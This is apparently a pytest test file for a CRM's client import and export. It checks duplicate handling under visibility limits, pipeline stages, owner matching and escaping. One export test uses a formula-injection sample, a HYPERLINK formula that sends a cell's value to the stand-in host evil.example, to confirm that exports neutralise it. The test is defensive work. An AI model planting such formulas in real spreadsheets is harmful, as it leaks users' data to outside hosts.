def test_a_duplicate_of_a_client_the_importer_may_not_edit_is_skipped_alone(crm, sees):
    """Duplicates are looked for in the whole base: a row duplicating another agent's
    client (hidden, or visible but not editable) is reported without the client's id, in
    the dry run too, and the other rows are imported."""
    ann, bob = add_user(crm, "ann", ["agent"]), add_user(crm, "bob", ["agent"])
    if sees:
        with crm.system() as work:
            work.permissions.set("agent", "party", "read", "all")
    with crm.acting_as(ann) as work:
        client = work.parties.create(
            name="Ромашка", contact_points=[{"kind": "phone", "value": "+7 916 123-45-67"}]
        ).id
    body = "Название;Телефон;Должность\nРомашка;+7 916 123 45 67;поставщик\nБета;;\n"
    for dry_run in (True, False):
        run_id, _, counts = _run(crm, bob, body, on_duplicate="update", dry_run=dry_run)
        with crm.system() as work:
            run = work.session.get(ImportRun, run_id)
            assert run.status == ("dry_run" if dry_run else "done")
            assert counts == (1, 0, 0)
            assert sorted((e["row"], e["column"], e["reason"]) for e in run.row_errors) == [
                (2, "Название", "duplicate of a client you may not edit: skipped")
            ]
            assert str(client) not in work.imports.error_report(run_id).decode("utf-8-sig")
    with crm.system() as work:
        assert work.parties.get(client).position is None
        assert work.session.scalar(select(func.count()).where(Party.name == "Бета")) == 1


def _hidden_and_own_clients(crm):
    """Ann's clients, which agent Bob (own scope) may not see, and Bob's own one."""
    ann, bob = add_user(crm, "ann", ["agent"]), add_user(crm, "bob", ["agent"])
    with crm.acting_as(ann) as work:
        romashka = work.parties.create(name="«Ромашка»").id
        zenit = work.parties.create(
            name="Зенит", contact_points=[{"kind": "phone", "value": "+7 916 123-45-67"}]
        ).id
    with crm.acting_as(bob) as work:
        vector = work.parties.create(name="ООО Вектор Трейд").id
    return bob, romashka, zenit, vector


#: Bob's file: a look-alike of Ann's client, one of his own, Ann's client's phone.
HIDDEN_BODY = 'Название;Телефон\nООО "Рамашка";\nВекторр Трейд;\nЗенит Плюс;+7 916 123 45 67\n'


def test_an_importer_learns_only_that_a_client_they_may_not_see_matches(crm):
    """Duplicates are looked for in the whole base, but an agent limited to own clients
    is told only that a client they may not see matches (no id, no name), in the preview
    and in the run's report; their own look-alike keeps its id and name."""
    bob, romashka, zenit, vector = _hidden_and_own_clients(crm)
    run_id, _ = _start(crm, bob, HIDDEN_BODY.encode())
    with crm.acting_as(bob) as work:
        shown = work.imports.preview(run_id)
    assert [(r["duplicate_of"], r["duplicate_hidden"], r["match"]) for r in shown] == [
        (None, True, "similar name"),
        (vector, False, "similar name"),
        (None, True, "exact"),
    ]
    assert not {romashka, zenit} & {r["duplicate_of"] for r in shown}
    # the same file by someone who sees every client names them all
    boss = add_user(crm, "boss", ["admin"])
    other_id, _ = _start(crm, boss, HIDDEN_BODY.encode())
    with crm.acting_as(boss) as work:
        seen = work.imports.preview(other_id)
    assert [(r["duplicate_of"], r["duplicate_hidden"]) for r in seen] == [
        (romashka, False),
        (vector, False),
        (zenit, False),
    ]
    run_import(crm, run_id)
    with crm.system() as work:
        run = work.session.get(ImportRun, run_id)
        found = run.possible_duplicates
        report = work.imports.error_report(run_id).decode("utf-8-sig")
    assert (run.created, run.skipped) == (2, 1)  # the exact duplicate is skipped
    assert [(d["row"], d["duplicate_of"], d["duplicate_hidden"]) for d in found] == [
        (2, None, True),
        (3, vector, False),
    ]
    assert found[0]["reason"] == (
        f"possible duplicate of a client you may not see (similar name, {found[0]['score']}%): "
        "created"
    )
    assert f"client #{vector} 'ООО Вектор Трейд'" in found[1]["reason"]
    assert "«Ромашка»" not in report and f"#{romashka}" not in report
    assert "a client you may not see" in report and f"client #{vector}" in report


LIFECYCLE = Pipeline(
    "lifecycle",
    "party",
    label="Clients",
    default=True,
    stages=[Stage("lead", "Lead"), Stage("client", "Client", kind=StageKind.SUCCESS)],
    transitions=[Transition("lead", "client")],
)


class LifecyclePlugin:
    crmkit_plugin_name = "lifecycle"

    @hookimpl
    def crmkit_register_pipelines(self):
        return [LIFECYCLE]


def test_a_status_column_sets_new_clients_stages_and_leaves_existing_ones(make_crm):
    """A "Статус" column (guessed as the stage) places new clients; a duplicate row updates
    the client's other fields and leaves its stage (stages change by moves)."""
    crm = make_crm(plugins=[LifecyclePlugin()])
    anna = add_user(crm, "anna", ["manager"])
    with crm.acting_as(anna) as work:
        client = work.parties.create(name="Ромашка").id
    body = "Название;Статус;Должность\nРомашка;client;поставщик\nБета;client;\n"
    # placing a new client straight into a later stage takes `place`, as create does
    refused_id, _ = _start(crm, anna, body.encode(), on_duplicate="update")
    run_import(crm, refused_id)
    with crm.system() as work:
        refused = work.session.get(ImportRun, refused_id)
        assert refused.created == 0 and "place" in str(refused.row_errors), refused.row_errors
        work.permissions.set("manager", "party", "place", "all")
    run_id, _ = _start(crm, anna, body.encode(), on_duplicate="update")
    with crm.system() as work:
        assert work.session.get(ImportRun, run_id).mapping["Статус"] == "stage"
    run_import(crm, run_id)
    with crm.system() as work:
        run = work.session.get(ImportRun, run_id)
        assert (run.created, run.updated, run.row_errors) == (1, 1, [])
        party = work.parties.get(client)
        assert (party.position, party.stage) == ("поставщик", "lead")
        beta = work.session.scalars(select(Party).where(Party.name == "Бета")).one()
        assert beta.stage == "client"


def test_export_writes_client_text_that_looks_like_a_formula_as_text(crm):
    link = '=HYPERLINK("http://evil.example/?"&A2,"Открыть")'
    ann = add_user(crm, "ann", ["agent"])
    with crm.acting_as(ann) as work:
        party = work.parties.create(
            name=link, contact_points=[{"kind": "phone", "value": "+7 916 000-00-00"}]
        )
        text = export_parties(work, "csv").decode("utf-8-sig")
        data = export_parties(work, "xlsx")
    [header, row] = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert row[header.index("id")] == str(party.id)  # a number stays a number
    assert row[header.index("name")] == "'" + link
    assert row[header.index("phone")].startswith("'+7")
    sheet = load_workbook(io.BytesIO(data)).active
    name = sheet.cell(row=2, column=2)
    assert (name.value, name.data_type) == (link, "s")
    assert sheet.cell(row=2, column=1).value == party.id


def test_a_client_with_a_control_character_is_exported_to_xlsx(crm, setup):
    """A name pasted from Word (its line break is \\x0b) or imported from another system
    (a stray \\x01): openpyxl refused the whole XLSX export, a server error for every
    list or group holding that client. The XLSX cell has a space in its place; the
    client and the CSV export keep the text as it is."""
    anna = setup
    run_id, _ = _start(crm, anna, "Название\nООО\x0bРомашка\nБета\x01\n".encode())
    run_import(crm, run_id)
    with crm.acting_as(anna) as work:
        data = export_parties(work, "xlsx")
        text = export_parties(work, "csv").decode("utf-8-sig")
    sheet = load_workbook(io.BytesIO(data)).active
    assert sorted(row[1] for row in sheet.iter_rows(min_row=2, values_only=True)) == [
        "Бета ",
        "ООО Ромашка",
    ]
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert sorted(row[1] for row in rows[1:]) == ["Бета\x01", "ООО\x0bРомашка"]


def test_the_error_report_gives_back_the_files_text_as_text(crm):
    anna = add_user(crm, "anna", ["manager"])
    run_id, _ = _start(crm, anna, "Название\nООО Ромашка\n".encode())
    with crm.system() as work:  # errors name the file's columns and quote its values
        work.session.get(ImportRun, run_id).errors = [
            {"row": 2, "column": "=1+2", "reason": "@A1: not a number"}
        ]
    with crm.acting_as(anna) as work:
        report = work.imports.error_report(run_id).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(report, newline=""), delimiter=";"))
    assert rows == [["row", "column", "reason"], ["2", "'=1+2", "'@A1: not a number"]]


def test_an_owner_is_matched_by_username_then_email_and_a_shared_name_is_refused(crm, setup):
    """The owner column names a user by username, email or display name, in that order:
    a display name two users share names neither (the row is refused naming the row, the
    column and the users it could be), and another user's display name never wins over
    a username."""
    anna = setup
    add_user(crm, "petrova1", ["manager"], display_name="Анна Петрова")
    add_user(crm, "petrova2", ["manager"], display_name="Анна Петрова")
    add_user(crm, "sidorov", ["manager"], display_name="Anna")  # anna's username
    boss = add_user(crm, "boss", ["manager"], email="Boss@Firm.ru")
    body = (
        "Название;Ответственный\n"
        "Альфа;Анна Петрова\n"
        "Бета;anna\n"
        "Гамма;boss@firm.ru\n"
        "Дельта;анна петрова\n"
    )
    run_id, _ = _start(crm, anna, body.encode())
    shared = "'{name}' names several users (petrova1, petrova2): write the username of one"
    with crm.acting_as(anna) as work:
        preview = work.imports.preview(run_id)
        assert [(e["column"], e["reason"]) for e in preview[0]["errors"]] == [
            ("Ответственный", shared.format(name="Анна Петрова"))
        ]
        work.imports.queue(run_id)
    run_import(crm, run_id)
    with crm.system() as work:
        run = work.session.get(ImportRun, run_id)
        assert (run.created, run.updated, run.skipped) == (2, 0, 0)
        assert [(e["row"], e["column"], e["reason"]) for e in run.row_errors] == [
            (2, "Ответственный", shared.format(name="Анна Петрова")),
            (5, "Ответственный", shared.format(name="анна петрова")),
        ]
        owners = dict(work.session.execute(select(Party.name, Party.owner_id)).all())
        assert owners == {"Бета": anna.id, "Гамма": boss.id}


@pytest.mark.parametrize("meanwhile", ["saved", "merged"])
def test_a_client_changed_by_someone_else_meanwhile_skips_its_row_alone(
    crm, setup, monkeypatch, meanwhile
):
    """Someone saves a client between the import's reading it and its update (the
    optimistic version clash), or merges it away: that row is reported, written not at
    all, and the batch goes on (it used to fail whole, and the run with it)."""
    from crmkit.services.parties import PartyService

    anna = setup
    with crm.acting_as(anna) as work:
        romashka = work.parties.create(
            name="Ромашка", contact_points=[{"kind": "phone", "value": "+7 916 123-45-67"}]
        ).id
        vector = work.parties.create(
            name="Вектор", contact_points=[{"kind": "phone", "value": "+7 495 765-43-21"}]
        ).id
        survivor = work.parties.create(name="Ромашка Групп").id
    real = PartyService.get
    edits = []

    def get_and_changed_meanwhile(self, record, action="read", **kwargs):
        if action == "update" and record == romashka and not edits:
            edits.append(1)  # a colleague acts now, on a connection of their own
            with crm.system() as other:
                if meanwhile == "saved":
                    party = real(self, record, action, **kwargs)  # the import read it
                    other.parties.update(romashka, {"position": "директор"})
                    return party
                other.merges.merge(survivor, romashka)
        return real(self, record, action, **kwargs)

    monkeypatch.setattr(PartyService, "get", get_and_changed_meanwhile)
    body = (
        "Название;Телефон;E-mail;Должность;Теги\n"
        "Ромашка;+7 916 123 45 67;new@romashka.ru;поставщик;опт\n"
        "Вектор;+7 495 765 43 21;;дилер;\n"
        "Гамма;;;;\n"
    )
    run_id, _, counts = _run(crm, anna, body, on_duplicate="update")
    assert edits == [1]
    with crm.system() as work:
        run = work.session.get(ImportRun, run_id)
        assert (run.status, counts) == ("done", (1, 1, 0))
        assert [(e["row"], e["column"], e["reason"]) for e in run.row_errors] == [
            (2, "Название", "changed by someone else meanwhile: import it again")
        ]
        party = work.parties.get(romashka)  # the survivor, when merged
        assert party.position == ("директор" if meanwhile == "saved" else None)
        assert "new@romashka.ru" not in [c.value for c in party.contact_points]
        assert work.parties.tags_of(party) == []  # nothing of row 2
        assert work.parties.get(vector).position == "дилер"
        assert work.session.scalar(select(func.count()).where(Party.name == "Гамма")) == 1
